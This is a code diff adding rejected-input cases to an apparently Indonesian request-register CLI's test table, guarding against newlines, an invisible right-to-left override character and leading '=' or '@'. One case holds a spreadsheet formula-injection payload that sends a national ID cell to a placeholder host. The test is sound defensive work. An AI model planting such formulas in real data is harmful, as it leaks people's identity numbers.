@@ -892,6 +892,12 @@ REFUSED_CATAT = [
     (["--telepon", "", "--email", ""], "wajib mencantumkan kontak"),
     (["--email", "budi@"], "alamat e-mail 'budi@' tidak sah"),
     (["--nama", "Budi\x07"], "karakter kendali"),
+    # a name on the receipt, in daftar and in the register book: one line, read as typed, never
+    # a formula when the office opens the register (=HYPERLINK beside the NIK)
+    (["--nama", "Ali\nBaris2"], "--nama (nama pemohon) memuat pindah baris atau tab"),
+    (["--nama", "Ali\u202eevil"], "--nama (nama pemohon) memuat karakter tak terlihat"),
+    (["--nama", '=HYPERLINK("http://x/?"&D2)'], "diawali '=': itu rumus lembar kerja, bukan nama"),
+    (["--kuasa", "@Ani", "--dokumen", "identitas,kuasa"], "--kuasa diawali '@'"),
     (["--tujuan", "x" * 10_001], "terlalu panjang"),
     (["--tanggal", "2026-11-23"], "ada di masa depan"),
     (["--tahapan", "Kampanye"], "tahapan 'Kampanye' tidak ada di ppidctl.toml"),
